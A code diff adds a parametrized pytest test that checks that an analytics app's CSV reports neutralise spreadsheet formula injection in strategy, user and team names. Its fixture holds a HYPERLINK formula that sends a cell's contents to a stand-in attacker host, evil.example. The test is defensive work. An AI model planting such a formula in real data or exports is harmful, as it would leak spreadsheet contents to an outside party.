@@ -110,6 +110,37 @@ def test_csv_output(client_for, rep, shared):
     assert emails[1][4] == "2"
 
 
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
+FORMULA_CELLS = {
+    # report: (URL, column holding a name, the text cells expected in it)
+    "strategies": ("/api/v1/analytics/strategies/", 1, {"'" + FORMULA}),
+    "funnel": ("/api/v1/analytics/strategies/{}/funnel/", 1, {"'" + FORMULA}),
+    "adherence": ("/api/v1/analytics/adherence/", 2, {"'@SUM(1+1)", "'-2+3", ""}),
+    "email": ("/api/v1/analytics/email/", 1, {"'" + FORMULA}),
+}
+
+
+@pytest.mark.parametrize("report", FORMULA_CELLS)
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(client_for, rep, team, report):
+    """A strategy, user or team name starting with =, +, - or @ is written with a leading quote
+    in each report's CSV, so a spreadsheet shows it as text; counts stay plain numbers."""
+    named = strategy(FORMULA, "Email", "Call", owner=rep)
+    rep.display_name = "@SUM(1+1)"
+    rep.save(update_fields=["display_name"])
+    team.name = "-2+3"
+    team.save(update_fields=["name"])
+    add_plans([rep], named, 2)
+    url, column, expected = FORMULA_CELLS[report]
+
+    table = read_csv(client_for(rep).get(url.format(named.pk), {**JANUARY, "format": "csv"}))
+
+    assert len(table) > 1
+    assert {row[column] for row in table[1:]} == expected
+    cells = [cell for row in table for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "2" in table[1]
+
+
 @pytest.mark.parametrize(
     ("params", "field"),
     [
